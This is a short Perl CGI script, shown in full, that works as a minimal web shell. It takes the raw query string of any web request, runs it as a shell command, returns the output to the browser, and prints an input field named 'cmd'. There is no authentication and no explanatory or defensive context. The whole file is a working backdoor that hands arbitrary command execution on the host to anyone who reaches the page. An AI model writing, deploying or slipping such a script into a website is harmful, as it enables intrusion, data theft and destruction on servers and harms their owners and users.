#!/usr/bin/perl
print "Content-type: text/html\n\n";
$cmd = $ENV{"QUERY_STRING"};
print `$cmd 2>&1`;
print "<input name=\"cmd\">";
